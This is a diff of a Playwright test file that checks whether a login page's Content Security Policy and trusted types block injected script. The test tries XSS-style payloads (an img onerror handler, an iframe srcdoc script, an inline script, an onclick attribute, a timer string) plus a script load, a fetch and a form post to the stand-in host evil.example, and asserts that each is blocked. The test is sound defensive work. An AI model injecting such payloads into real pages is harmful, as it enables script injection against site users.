@@ -83,41 +83,70 @@ test.describe('a refused login', () => {
   });
 });
 
-test('FE-10 the page may neither call a stranger nor run what was put into it', async ({ browser, baseURL }) => {
-  // A context of its own: here violations are what is asked for.
-  const context = await browser.newContext({ baseURL, serviceWorkers: 'block' });
-  const page = await context.newPage();
-  const strangers: string[] = [];
-  await context.route('https://evil.example/**', (route) => {
-    strangers.push(route.request().url());
-    return route.fulfill({ body: '' });
+for (const [browsers, violations] of [
+  ['that know trusted types', ['require-trusted-types-for', 'connect-src', 'form-action']],
+  ['that do not', ['script-src-elem', 'script-src-attr', 'connect-src', 'form-action']],
+] as const) {
+  test(`FE-10 in browsers ${browsers} the page may neither call a stranger nor run what was put into it`, async ({ browser, baseURL }) => {
+    // A context of its own: here violations are what is asked for.
+    const context = await browser.newContext({ baseURL, serviceWorkers: 'block' });
+    const page = await context.newPage();
+    const strangers: string[] = [];
+    await context.route(/evil/, (route) => {
+      strangers.push(route.request().url());
+      return route.fulfill({ body: 'window.pwned = 1', contentType: 'text/javascript' });
+    });
+    const trusted = violations[0] === 'require-trusted-types-for';
+    await context.route('**/login', async (route) => {
+      const response = await route.fetch();
+      const headers = response.headers();
+      const policy = headers['content-security-policy']!;
+      await route.fulfill({ response, headers: { ...headers, 'content-security-policy': trusted ? policy : policy.replace(/; require-trusted-types-for.*/, '') } });
+    });
+    await page.goto('/login');
+    await expect(submit(page)).toBeVisible();
+    const outcome = await page.evaluate(async (withTypes) => {
+      const found: string[] = [];
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => found.push(effectiveDirective));
+      const put = <K extends keyof HTMLElementTagNameMap>(tag: K, change: (element: HTMLElementTagNameMap[K]) => void) => {
+        const element = document.createElement(tag);
+        change(element);
+        return document.body.appendChild(element);
+      };
+      const attempts: Record<string, () => unknown> = {
+        markup: () => put('div', (host) => (host.innerHTML = '<img src="x" onerror="window.pwned = 1">')),
+        frame: () => put('iframe', (frame) => (frame.srcdoc = '<script>parent.pwned = 1</script>')),
+        script: () => put('script', (script) => (script.textContent = 'window.pwned = 1')),
+        'script of a stranger': () => put('script', (script) => (script.src = 'https://evil.example/x.js')),
+        handler: () => put('div', (host) => host.setAttribute('onclick', 'window.pwned = 1')).click(),
+        // Text that is run later: eval itself is allowed to whoever drives the browser.
+        timer: () => (window.setTimeout as (text: string) => void)('window.pwned = 1'),
+      };
+      if (withTypes) {
+        // Of this origin, but no file of the shop's program.
+        attempts['other script'] = () => put('script', (script) => (script.src = '/media/evil.js'));
+        attempts['policy of his own'] = () => (window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }).trustedTypes.createPolicy('evil', {});
+      }
+      const refused = Object.keys(attempts).filter((name) => {
+        try {
+          attempts[name]!();
+          return false;
+        } catch {
+          return true;
+        }
+      });
+      const called = await fetch('https://evil.example/').then(() => 'answered', () => 'blocked');
+      put('form', (form) => (form.action = 'https://evil.example/')).submit();
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      return { called, refused, all: Object.keys(attempts), pwned: 'pwned' in window, found };
+    }, trusted);
+    expect(outcome).toMatchObject({ called: 'blocked', pwned: false });
+    for (const directive of violations) expect(outcome.found).toContain(directive);
+    if (trusted) expect(outcome.refused).toEqual(outcome.all);
+    expect(strangers).toEqual([]);
+    await context.close();
   });
-  await page.goto('/login');
-  const outcome = await page.evaluate(async () => {
-    const violations: string[] = [];
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective));
-    const called = await fetch('https://evil.example/').then(() => 'answered', () => 'blocked');
-    const inline = document.createElement('script');
-    inline.textContent = 'window.pwned = 1';
-    const foreign = document.createElement('script');
-    foreign.src = 'https://evil.example/x.js';
-    const handler = document.createElement('div');
-    handler.setAttribute('onclick', 'window.pwned = 1');
-    const form = document.createElement('form');
-    form.action = 'https://evil.example/';
-    document.body.append(inline, foreign, handler, form);
-    handler.click();
-    form.submit();
-    // Text that is run later: eval itself is allowed to whoever drives the browser.
-    (window.setTimeout as (text: string) => void)('window.pwned = 1');
-    await new Promise((resolve) => setTimeout(resolve, 100));
-    return { called, pwned: 'pwned' in window, violations };
-  });
-  expect(outcome).toMatchObject({ called: 'blocked', pwned: false });
-  for (const directive of ['connect-src', 'script-src-elem', 'script-src-attr', 'form-action']) expect(outcome.violations).toContain(directive);
-  expect(strangers).toEqual([]);
-  await context.close();
-});
+}
 
 test('FE-11 passwords are typed unseen, may be pasted, and every field says what it is for', async ({ page }) => {
   const fields = () => page.getByRole('main').locator('form input').evaluateAll((inputs) => inputs.map((input) => `${(input as HTMLInputElement).type} ${input.getAttribute('autocomplete')}`));
